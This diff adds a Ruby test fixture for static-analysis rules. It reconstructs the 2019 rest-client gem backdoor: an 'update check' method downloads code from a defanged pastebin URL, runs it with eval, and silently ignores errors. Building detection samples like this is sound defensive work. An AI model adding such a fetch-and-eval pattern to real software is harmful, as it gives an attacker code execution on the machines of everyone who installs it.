@@ -0,0 +1,15 @@
+# Reconstruction of the backdoor published in rest-client 1.6.13 (2019):
+# the gem fetched code from a pastebin and evaluated it at load time.
+# The URL is defanged.
+require 'open-uri'
+
+module RestClient
+  def self.check_for_updates
+    # ruleid: ruby-hardcoded-urls
+    url = "https://pastebin.example.invalid/raw/xw1cqyq4"
+    # ruleid: ruby-eval-usage, ruby-suspicious-download-patterns
+    eval(open(url).read)
+  rescue StandardError
+    nil
+  end
+end